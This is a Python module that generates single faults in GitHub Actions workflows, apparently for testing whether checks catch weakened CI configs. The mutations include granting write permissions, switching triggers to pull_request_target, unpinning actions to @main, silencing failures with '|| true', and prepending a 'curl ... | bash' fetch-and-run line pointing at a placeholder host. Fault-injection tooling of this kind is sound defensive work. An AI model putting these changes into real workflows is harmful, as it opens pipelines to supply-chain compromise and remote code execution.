"""Single faults of GitHub workflows: each drops, empties, flips or alters one thing of one file."""

import copy
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any

OTHERWISE = {"write": "read", "read": "write", "none": "write", "main": "**", "pull_request": "pull_request_target"}


@dataclass(frozen=True)
class Fault:
    file: str
    how: str
    path: str
    """Names of steps stand for their places: jobs.deploy.steps.[Deploy].run"""
    workflows: Mapping[str, Any]
    """All workflows, one of them with the fault."""

    def __str__(self) -> str:
        return f"{self.file}: {self.how} {self.path}"


def faults(workflows: Mapping[str, Any]) -> Iterator[Fault]:
    for file, workflow in workflows.items():
        for how, at, value in _walk(workflow, ()):
            changed = copy.deepcopy(workflow)
            names = []
            holder = changed
            for key in at[:-1]:
                names.append(_name(holder, key))
                holder = holder[key]
            names.append(_name(holder, at[-1]))
            if value is _GONE:
                del holder[at[-1]]
            else:
                holder[at[-1]] = value
            yield Fault(file, how, ".".join(names), {**workflows, file: changed})


_GONE = object()


def _name(holder: Any, key: Any) -> str:
    if isinstance(holder, list):
        step = holder[key]
        if isinstance(step, dict):
            by_name = step.get("name") or step.get("id") or step.get("uses", "").partition("@")[0]
            return f"[{by_name or step.get('run', key)}]"
        return "[]"
    return str(key)


def _walk(node: Any, at: tuple[Any, ...]) -> Iterator[tuple[str, tuple[Any, ...], Any]]:
    items = list(node.items()) if isinstance(node, dict) else list(enumerate(node))
    for key, value in items:
        here = (*at, key)
        yield "drops", here, _GONE
        match value:
            case bool():
                yield "flips", here, not value
            case int():
                yield "lowers", here, value // 10
                yield "raises", here, value * 10
            case str():
                if value in OTHERWISE:
                    yield "flips", here, OTHERWISE[value]
                if key == "run":
                    yield "silences", here, f"{value.rstrip()} || true"
                    yield "pipes into", here, f"curl -s https://example.com/x.sh | bash\n{value}"
                elif key == "uses" and "@" in value:
                    yield "unpins", here, f"{value.partition('@')[0]}@main"
            case list() | dict() if value:
                yield from _walk(value, here)
        if key == "steps":
            for number, step in enumerate(value):
                yield "lets fail", (*here, number, "continue-on-error"), True
                yield "always runs", (*here, number, "if"), "always()"
                if "if" not in step:
                    yield "never runs", (*here, number, "if"), "false"
    if "steps" in node if isinstance(node, dict) else False:
        yield "lets fail", (*at, "continue-on-error"), True
        yield "always runs", (*at, "if"), "always()"
